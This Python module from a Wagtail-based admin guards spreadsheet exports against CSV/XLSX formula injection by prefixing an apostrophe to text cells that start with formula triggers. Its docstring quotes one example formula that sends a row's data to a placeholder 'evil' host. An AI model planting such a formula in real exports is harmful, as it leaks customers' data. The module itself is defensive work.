"""Spreadsheet exports from the admin that cannot run a formula on the team's computer.

Customers and artists write text that ends up in exports (an enquiry's message, a name, an
email address). A cell starting with ``=``, ``+``, ``-`` or ``@`` is a formula to Excel, Numbers,
LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A2, "x")`` sends the row away);
a leading tab, carriage return or NUL can hide one. Following OWASP's advice on CSV injection
(and ASVS 1.2.10 for XLSX), such a text cell is written with a leading apostrophe, which
spreadsheets read as "this is text". Numbers, dates and booleans are written as they are.

Every admin listing with ``list_export`` uses :class:`SafeSpreadsheetExportMixin` (snippets and
model viewsets through the index views below, the order list through its modeladmin view);
``tests/test_exports.py`` checks that none is left out.
"""

from __future__ import annotations

from typing import Any

from wagtail.admin.views.generic.models import IndexView
from wagtail.snippets.views.snippets import IndexView as SnippetIndexView

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\x00")


def spreadsheet_safe(value: Any) -> Any:
    """The value as a spreadsheet should show it: text that could start a formula gets a
    leading apostrophe; anything that is not text is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


class SafeSpreadsheetExportMixin:
    """For views built on Wagtail's ``SpreadsheetExportMixin``: neutralises every cell of the
    CSV and XLSX downloads, after the view's own preprocessing has turned it into text."""

    def preprocess_field_value(self, field: str, value: Any, export_format: str) -> Any:
        return spreadsheet_safe(super().preprocess_field_value(field, value, export_format))


class SafeExportIndexView(SafeSpreadsheetExportMixin, IndexView):
    """``index_view_class`` for a ``ModelViewSet`` with ``list_export``."""


class SafeExportSnippetIndexView(SafeSpreadsheetExportMixin, SnippetIndexView):
    """``index_view_class`` for a ``SnippetViewSet`` with ``list_export``."""
